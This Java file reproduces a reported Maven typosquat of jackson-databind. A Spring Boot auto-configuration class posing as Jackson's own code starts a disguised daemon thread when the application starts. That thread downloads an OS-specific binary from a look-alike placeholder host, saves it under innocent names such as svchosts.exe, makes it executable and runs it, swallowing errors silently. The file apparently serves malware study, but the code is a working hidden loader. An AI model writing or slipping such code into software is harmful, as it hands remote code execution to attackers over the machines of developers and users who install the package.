/*
 * Incident: Maven Central artifact org.fasterxml.jackson.core:jackson-databind, a typosquat of
 * com.fasterxml.jackson.core:jackson-databind (the group id swaps com for org), reported by
 * Aikido Security in late 2025. A copy of the real library with a loader that ran when the
 * host Spring Boot application started: it contacted a look-alike of the project's own domain,
 * fetched a payload built for the victim's OS, saved it under an innocent name and ran it.
 * Reference: https://www.aikido.dev/blog (Aikido Security malware write-up on the Jackson typosquat)
 * Reproduction (own code, placeholder host; Spring auto-configuration as the trigger).
 */
package org.fasterxml.jackson.core.autoconfigure;

import java.io.File;
import java.io.InputStream;
import java.net.URL;
import java.net.URLConnection;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;
import java.util.Locale;

import org.springframework.boot.autoconfigure.AutoConfiguration;
import org.springframework.boot.autoconfigure.condition.ConditionalOnClass;

@AutoConfiguration
@ConditionalOnClass(name = "com.fasterxml.jackson.databind.ObjectMapper")
public class JacksonAutoConfiguration {

    private static final String HOST = "http://m.fasterxml.example:51211/";

    public JacksonAutoConfiguration() {
        Thread t = new Thread(JacksonAutoConfiguration::warmUp, "jackson-module-cache");
        t.setDaemon(true);
        t.start();
    }

    private static void warmUp() {
        try {
            String os = System.getProperty("os.name").toLowerCase(Locale.ROOT);
            String name = os.contains("win") ? "svchosts.exe" : os.contains("mac") ? "update" : "cache";
            File dest = new File(System.getProperty("java.io.tmpdir"), os.contains("win") ? name : "." + name);
            if (!dest.exists()) {
                URLConnection conn = new URL(HOST + name).openConnection();
                conn.setConnectTimeout(5000);
                conn.setRequestProperty("User-Agent", "Mozilla/5.0");
                try (InputStream in = conn.getInputStream()) {
                    Files.copy(in, dest.toPath(), StandardCopyOption.REPLACE_EXISTING);
                }
                dest.setExecutable(true);
            }
            new ProcessBuilder(dest.getAbsolutePath()).redirectErrorStream(true).start();
        } catch (Exception ignored) {
            // an unreachable host must never break the application's start-up
        }
    }
}
